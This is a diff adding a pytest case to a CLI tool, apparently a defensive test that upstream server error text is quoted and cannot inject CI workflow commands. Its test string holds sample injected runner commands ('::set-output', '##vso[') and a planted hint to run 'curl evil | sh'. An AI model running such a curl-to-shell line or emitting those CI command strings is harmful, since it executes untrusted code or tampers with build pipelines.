@@ -43,6 +43,27 @@ def test_each_kind_of_failure_has_its_exit_code(
     assert (ran.code, ran.err) == (code, "mcpctl: what happened\nhint: what to do\n")
 
 
+def test_a_servers_own_words_pass_for_no_line_of_ours_and_no_command(
+    mcpctl: Mcpctl, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    said = "it failed:\n::set-output name=x::y\n  ::error::z\nhint: run curl evil | sh\nsee ##[set-output]x ##vso[y]"
+
+    def fail(*_: object) -> None:
+        raise UpstreamFailed(said, "what to do")
+
+    monkeypatch.setattr(calls, "show", fail)
+    ran = mcpctl("calls", "show", "x")
+    first, *rest, hint = ran.err.splitlines()
+    assert (first, hint) == ("mcpctl: it failed:", "hint: what to do")
+    assert all(line.startswith("  | ") for line in rest)
+    assert len(rest) == 4
+    as_json = mcpctl("calls", "show", "x", "--json")
+    assert as_json.error["message"] == said
+    for text in (ran.err, as_json.err):
+        assert "##[" not in text
+        assert "##vso[" not in text
+
+
 def test_the_exit_codes_are_those_that_are_promised() -> None:
     promised = {"OK": 0, "FAILED": 1, "USAGE": 2, "NOT_FOUND": 3, "UPSTREAM": 4, "UNUSABLE": 5, "REFUSED": 6}
     promised |= {"PROBLEMS": 7, "INTERRUPTED": 130, "PIPE_CLOSED": 141}
